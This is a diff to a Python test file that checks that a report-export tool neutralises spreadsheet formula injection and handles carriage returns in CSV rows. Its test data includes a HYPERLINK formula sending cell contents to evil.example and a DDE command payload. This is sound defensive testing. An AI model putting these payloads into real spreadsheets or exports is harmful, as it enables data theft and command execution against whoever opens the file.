@@ -1,6 +1,7 @@
 """Every export path neutralises spreadsheet formulas with the one shared function."""
 from __future__ import annotations
 
+import csv
 import io
 from datetime import date
 from pathlib import Path
@@ -15,7 +16,9 @@ from salvo.store import Store
 from tests.store.conftest import FakeExtractor, record
 
 HOSTILE_OUTLETS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "@SUM(1)",
-                   "-2+3", "\tTAB=1", "\rCR=1"]
+                   "-2+3", "\tTAB=1", "\rCR=1", "\r=3+3"]
+# Harmless at a cell's start, but a reader that ends rows at a bare CR or LF must not split them.
+LINE_BREAKING_OUTLETS = ["Kyiv\r=3+3", "line\n=4+4"]
 
 
 @pytest.mark.parametrize("cell", HOSTILE_OUTLETS)
@@ -62,6 +65,37 @@ def test_the_cli_export_neutralises_formulas(hostile_store, tmp_path, fmt):
     assert any("HYPERLINK" in cell for cell in cells)  # the hostile outlet is exported ...
     dangerous = [c for c in cells if c.startswith(security.FORMULA_PREFIXES)]
     assert dangerous == []  # ... but never as a formula
+
+
+def _csv_rows(data: bytes) -> list[list[str]]:
+    """Rows as Python's csv module reads them (it ends an unquoted row at a CR as at an LF)."""
+    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
+
+
+def test_a_carriage_return_never_starts_a_row_of_its_own():
+    outlets = HOSTILE_OUTLETS + LINE_BREAKING_OUTLETS
+    table = pd.DataFrame({"outlet": outlets, "killed": range(len(outlets))})
+    rows = _csv_rows(ui.to_csv_bytes(table))
+    assert len(rows) == 1 + len(outlets)  # the header and one row per outlet, no more
+    assert [row[0] for row in rows[1:]] == ["'" + c if c.startswith(security.FORMULA_PREFIXES) else c
+                                            for c in outlets]
+    assert [row[1] for row in rows[1:]] == [str(n) for n in range(len(outlets))]
+    assert not any(cell.startswith(security.FORMULA_PREFIXES) for row in rows for cell in row)
+
+
+def test_the_cli_csv_export_reads_back_row_for_row(tmp_path):
+    url = f"sqlite:///{tmp_path / 'salvo.sqlite'}"
+    store = Store(url)
+    fake = FakeExtractor({"night": record(attack_date="2025-07-04", drones_launched=10)})
+    for number, outlet in enumerate(["\r=3+3", "Kyiv\r=5+5"]):  # a CR but no LF: pandas left it unquoted
+        ingest_text(store, f"Report {number} of the night", published=date(2025, 7, 4), outlet=outlet,
+                    extractor=fake.as_extractor())
+    store.close()
+    output = tmp_path / "out.csv"
+    assert main(["--database", url, "-q", "export", "--format", "csv", "-o", str(output)]) == 0
+    rows = _csv_rows(output.read_bytes())
+    assert len(rows) == 2  # the header and the one night every hostile report is about
+    assert not any(cell.startswith(security.FORMULA_PREFIXES) for row in rows for cell in row)
 
 
 def test_an_xlsx_cell_is_cut_at_the_format_s_limit_and_says_so():
